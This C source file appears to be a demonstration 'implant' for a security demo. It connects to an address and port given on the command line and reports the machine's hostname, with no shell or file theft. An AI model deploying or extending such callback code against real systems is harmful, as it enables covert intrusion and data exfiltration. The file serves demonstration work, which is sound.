/* SPDX-License-Identifier: Apache-2.0 */
/* What the demo's attacker drops: connects to ADDRESS PORT, says where it runs, ends. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_in peer = {.sin_family = AF_INET};
	char line[128] = "implant on ";
	size_t said = strlen(line);
	int fd;

	if (argc != 3 || inet_pton(AF_INET, argv[1], &peer.sin_addr) != 1) {
		fprintf(stderr, "usage: implant ADDRESS PORT\n");
		return 2;
	}
	peer.sin_port = htons((unsigned short)atoi(argv[2]));
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&peer, sizeof(peer)) < 0) {
		perror("implant");
		return 1;
	}
	gethostname(line + said, sizeof(line) - said - 2);
	strcat(line, "\n");
	return write(fd, line, strlen(line)) < 0;
}
